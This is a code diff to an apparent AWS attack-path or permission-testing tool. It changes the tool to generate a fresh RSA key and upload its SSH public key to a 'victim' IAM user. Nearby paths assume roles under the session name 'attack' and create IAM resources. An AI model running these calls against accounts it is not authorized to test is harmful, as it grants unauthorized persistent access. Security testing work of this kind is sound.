@@ -25,6 +25,8 @@ import boto3
 from botocore import UNSIGNED
 from botocore.config import Config
 from botocore.exceptions import ClientError
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
 
 DENIED = {"AccessDenied", "AccessDeniedException", "UnauthorizedOperation", "403"}
 NOT_BUILT = {"NotImplemented", "NotImplementedException", "UnsupportedOperation"}
@@ -42,6 +44,11 @@ def client(service, keys=None):
     k = {} if keys is None else dict(aws_access_key_id=keys["AccessKeyId"], aws_secret_access_key=keys["SecretAccessKey"],
                                      aws_session_token=keys.get("SessionToken"))
     return (boto3.Session() if keys is None else boto3.Session(**k)).client(service, config=CONFIG)
+
+
+def ssh_public_key():
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048).public_key()
+    return key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode()
 
 
 def document(*statements):
@@ -372,7 +379,7 @@ def _(w, c, t): c("iam").create_open_id_connect_provider(Url=t["url"], ClientIDL
 def _(w, c, t): c("iam").create_virtual_mfa_device(VirtualMFADeviceName=t["name"])
 
 @path("iam:UploadSSHPublicKey", [("iam:UploadSSHPublicKey", "arn")], victim)
-def _(w, c, t): c("iam").upload_ssh_public_key(UserName=t["user"], SSHPublicKeyBody="ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7vbqajDw4o6gJy8UtmIbkcpnkO3Kwc4qsEnSZp/TR+fQi62F79RHWmwKOtFmwteURgLbj7D/WGuNLGOfa/2vse3G2eHnHl5CB8ruRX9fBl/KgwCVr2JaEuUm66bBQeP5XeBotdR4cvX38uPYivCDdPjJ1QWPdspTBKcxeFbccDw== a@b")
+def _(w, c, t): c("iam").upload_ssh_public_key(UserName=t["user"], SSHPublicKeyBody=ssh_public_key())
 
 @path("sts:AssumeRole", [("sts:AssumeRole", "arn")], assumable, session=False)
 def _(w, c, t): c("sts").assume_role(RoleArn=t["arn"], RoleSessionName="attack")
